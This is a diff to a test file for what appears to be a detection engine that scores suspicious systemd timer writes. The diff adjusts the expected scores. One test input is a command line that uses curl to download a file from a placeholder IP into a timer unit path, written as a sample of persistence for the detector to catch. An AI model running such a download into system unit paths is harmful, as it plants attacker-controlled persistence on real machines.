@@ -20,7 +20,7 @@ describe('a timer', () => {
     ['a piece of one', auditedFile(`${TIMER}.d/override.conf`)],
     ['by Sysmon', sysmonFile(TIMER, '/usr/bin/vim')],
   ])('%s', (_, event) => {
-    expect(scores(timer, event)).toEqual([35]);
+    expect(scores(timer, event)).toEqual([30]);
     expect(scores(service, event)).toEqual([]);
   });
 
@@ -36,12 +36,12 @@ describe('a timer', () => {
 
   test('what the writer loads, and a name that imitates one of the system', () => {
     const commandLine = `curl -o ${TIMER} http://203.0.113.9/t`;
-    expect(scores(timer, auditedFile(TIMER, { commandLine }))).toEqual([55]);
-    expect(scores(timer, auditedFile('/etc/systemd/system/dbus-x1.timer'))).toEqual([45]);
+    expect(scores(timer, auditedFile(TIMER, { commandLine }))).toEqual([50]);
+    expect(scores(timer, auditedFile('/etc/systemd/system/dbus-x1.timer'))).toEqual([40]);
   });
 
   test('a package manager ranks low', () => {
-    expect(scores(timer, auditedFile(TIMER, { image: '/usr/bin/dpkg' }))).toEqual([5]);
+    expect(scores(timer, auditedFile(TIMER, { image: '/usr/bin/dpkg' }))).toEqual([0]);
   });
 
   test.each([
